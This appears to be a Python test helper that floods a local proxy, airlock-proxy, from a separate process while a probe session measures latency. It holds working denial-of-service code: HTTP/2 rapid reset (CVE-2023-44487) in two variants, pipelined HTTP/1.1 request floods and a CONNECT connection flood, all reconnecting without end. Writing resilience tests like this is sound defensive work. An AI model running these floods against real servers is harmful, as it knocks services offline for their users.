"""A hostile sandbox that floods airlock-proxy, in a process of its own.

``python flooder.py KIND SECONDS PROXY_PORT USER SECRET HOST CAFILE [THREADS]``
floods for ``SECONDS`` with ``THREADS`` workers (default 4) and prints one JSON
line of what it did. Running apart from the test keeps the flood's CPU and the
GIL out of the process that measures another session's latency.

Kinds (each worker reconnects whenever the proxy closes or refuses it, so the
flood never stops on its own):

- ``h2-reset``: HTTP/2 rapid reset (CVE-2023-44487): CONNECT to ``HOST``, TLS
  offering ``h2`` (and ``http/1.1``: where the proxy only speaks HTTP/1.1 to
  the sandbox, the worker floods HTTP/1.1 requests instead), then HEADERS and RST_STREAM(CANCEL) for new streams in
  batches, as fast as the socket takes them, with the ``h2`` library as a raw
  client. Reading is non-blocking and just keeps the state machine fed.
- ``h2-streams``: the same in two writes (HEADERS for 90 streams, then their
  RST_STREAMs), so the proxy sees every stream open before it is reset.
- ``h1-requests``: HTTP/1.1 keep-alive requests pipelined in batches.
- ``connect``: new connections, each one CONNECT, as fast as answers come.

``probe`` is the other session: a CONNECT every 0.2 s for ``SECONDS``; it
prints the seconds each took to be answered (5.0 for one that was not).
"""

from __future__ import annotations

import base64
import json
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

FLOODING = threading.Event()  # set once the proxy let the first tunnel through


@dataclass
class Stats:
    connections: int = 0
    connect_refused: int = 0
    streams: int = 0
    requests: int = 0
    closed_by_proxy: int = 0
    h2_refused: int = 0  # the proxy chose HTTP/1.1: the worker floods requests instead
    errors: dict[str, int] = field(default_factory=dict)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, name: str, n: int = 1) -> None:
        with self.lock:
            setattr(self, name, getattr(self, name) + n)

    def error(self, exc: BaseException) -> None:
        with self.lock:
            key = type(exc).__name__
            self.errors[key] = self.errors.get(key, 0) + 1


@dataclass(frozen=True)
class Target:
    port: int
    user: str
    secret: str
    host: str
    cafile: str

    @property
    def auth(self) -> str:
        return base64.b64encode(f"{self.user}:{self.secret}".encode()).decode()


def read_head(sock: socket.socket) -> bytes:
    """What ``sock`` reads up to the end of an HTTP head (less if the peer closes first).

    The tests import this from here: the flooder runs as a script of its own and
    cannot import them.
    """
    head = b""
    while b"\r\n\r\n" not in head:
        data = sock.recv(4096)
        if not data:
            break
        head += data
    return head


def connect(target: Target, stats: Stats, timeout: float = 2.0) -> socket.socket | None:
    """A CONNECT tunnel to ``target.host``:443, or None when the proxy refused it."""
    sock = socket.create_connection(("127.0.0.1", target.port), timeout=timeout)
    stats.add("connections")
    sock.sendall(
        f"CONNECT {target.host}:443 HTTP/1.1\r\nHost: {target.host}:443\r\n"
        f"Proxy-Authorization: Basic {target.auth}\r\n\r\n".encode()
    )
    head = read_head(sock)
    if head.split(b" ")[1:2] != [b"200"]:
        stats.add("connect_refused")
        sock.close()
        return None
    FLOODING.set()
    return sock


def tls(target: Target, sock: socket.socket, *alpn: str) -> ssl.SSLSocket:
    ctx = ssl.create_default_context(cafile=target.cafile)
    ctx.set_alpn_protocols(list(alpn))
    return ctx.wrap_socket(sock, server_hostname=target.host)


def drain(sock: ssl.SSLSocket) -> bytes:
    """Whatever can be read now without blocking; raises ConnectionError at EOF."""
    out = bytearray()
    timeout = sock.gettimeout()
    sock.setblocking(False)
    try:
        while True:
            try:
                data = sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                break
            if not data:
                raise ConnectionError("closed by the proxy")
            out += data
    finally:
        sock.settimeout(timeout)
    return bytes(out)


def h2_open(
    target: Target, stats: Stats, until: float
) -> tuple[ssl.SSLSocket, h2.connection.H2Connection] | None:
    """A tunnel speaking HTTP/2 as a client, its preface sent; None when the proxy
    refused the CONNECT or chose HTTP/1.1 (then this worker floods HTTP/1.1 instead,
    until ``until``)."""
    raw = connect(target, stats)
    if raw is None:
        return None
    sock = tls(target, raw, "h2", "http/1.1")
    if sock.selected_alpn_protocol() != "h2":
        stats.add("h2_refused")
        h1_flood(sock, target, stats, until)
        return None
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def flood_headers(target: Target) -> list[tuple[str, str]]:
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", target.host),
        (":path", "/flood"),
    ]


def h2_feed(sock: ssl.SSLSocket, conn: h2.connection.H2Connection) -> bool:
    """Feed what the proxy sent to the state machine and answer it (settings, pings);
    False once the proxy broke the protocol, ConnectionError on its GOAWAY."""
    incoming = drain(sock)
    if incoming:
        try:
            events = conn.receive_data(incoming)
        except h2.exceptions.ProtocolError:
            return False
        if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
            raise ConnectionError("GOAWAY from the proxy")
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
    return True


Headers = list[tuple[str, str]]


def h2_flood(
    target: Target,
    stats: Stats,
    until: float,
    batch: Callable[[ssl.SSLSocket, h2.connection.H2Connection, Headers], int],
) -> None:
    """Send ``batch`` after ``batch`` of streams on one HTTP/2 tunnel until ``until``."""
    opened = h2_open(target, stats, until)
    if opened is None:
        return
    sock, conn = opened
    headers = flood_headers(target)
    with sock:
        while time.monotonic() < until:
            stats.add("streams", batch(sock, conn, headers))
            if not h2_feed(sock, conn):
                return


def reset_batch(sock: ssl.SSLSocket, conn: h2.connection.H2Connection, headers: Headers) -> int:
    """HEADERS and RST_STREAM(CANCEL) for 50 new streams, in one write."""
    for _ in range(50):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=True)
        conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
    sock.sendall(conn.data_to_send())
    return 50


def open_then_reset_batch(
    sock: ssl.SSLSocket, conn: h2.connection.H2Connection, headers: Headers
) -> int:
    """Rapid reset in two writes: the proxy sees each stream open before its reset."""
    opened = []
    for _ in range(90):  # under the proxy's 100 concurrent streams
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=True)
        opened.append(sid)
    sock.sendall(conn.data_to_send())
    for sid in opened:
        if sid in conn.streams and not conn.streams[sid].closed:
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
    sock.sendall(conn.data_to_send())
    return len(opened)


def h2_reset(target: Target, stats: Stats, until: float) -> None:
    h2_flood(target, stats, until, reset_batch)


def h2_streams(target: Target, stats: Stats, until: float) -> None:
    h2_flood(target, stats, until, open_then_reset_batch)


def h1_requests(target: Target, stats: Stats, until: float) -> None:
    raw = connect(target, stats)
    if raw is None:
        return
    h1_flood(tls(target, raw, "http/1.1"), target, stats, until)


def h1_flood(sock: ssl.SSLSocket, target: Target, stats: Stats, until: float) -> None:
    request = (f"GET /flood HTTP/1.1\r\nHost: {target.host}\r\n\r\n").encode()
    with sock:
        while time.monotonic() < until:
            sock.sendall(request * 20)
            stats.add("requests", 20)
            drain(sock)


def connections(target: Target, stats: Stats, until: float) -> None:
    while time.monotonic() < until:
        sock = connect(target, stats)
        if sock is not None:
            sock.close()


# ``mixed``: every kind at once, one per worker (in this order, cyclically).
MIXED = ["h2-reset", "h1-requests", "h2-streams", "connect", "h2-reset", "h1-requests"]

KINDS: dict[str, Callable[[Target, Stats, float], None]] = {
    "h2-reset": h2_reset,
    "h2-streams": h2_streams,
    "h1-requests": h1_requests,
    "connect": connections,
}


def worker(kind: str, target: Target, stats: Stats, until: float) -> None:
    run = KINDS[kind]
    while time.monotonic() < until:
        try:
            run(target, stats, until)
        except (OSError, ssl.SSLError, ConnectionError) as exc:
            stats.add("closed_by_proxy")
            stats.error(exc)


def probe(target: Target, seconds: float, limit: float = 5.0) -> list[float]:
    """The other session: a new CONNECT every 0.2 s; seconds until each was answered."""
    latencies: list[float] = []
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        started = time.monotonic()
        try:
            sock = connect(target, Stats(), timeout=limit)
        except (OSError, IndexError):
            sock = None
        if sock is None:
            latencies.append(limit)  # refused, closed or timed out: not answered
        else:
            latencies.append(time.monotonic() - started)
            sock.close()
        time.sleep(0.2)  # pacing: five probes a second
    return latencies


def main(argv: list[str]) -> int:
    kind, seconds, port, user, secret, host, cafile = argv[:7]
    if kind == "probe":
        target = Target(int(port), user, secret, host, cafile)
        print(json.dumps(probe(target, float(seconds))), flush=True)
        return 0
    threads = int(argv[7]) if len(argv) > 7 else 4
    target = Target(int(port), user, secret, host, cafile)
    stats = Stats()
    until = time.monotonic() + float(seconds)
    kinds = MIXED if kind == "mixed" else [kind]
    workers = [
        threading.Thread(
            target=worker, args=(kinds[i % len(kinds)], target, stats, until), daemon=True
        )
        for i in range(threads)
    ]
    for t in workers:
        t.start()
    if FLOODING.wait(float(seconds)):
        print("flooding", flush=True)  # the test starts measuring now
    for t in workers:
        t.join(float(seconds) + 30)
    report = {k: v for k, v in vars(stats).items() if k != "lock"}
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
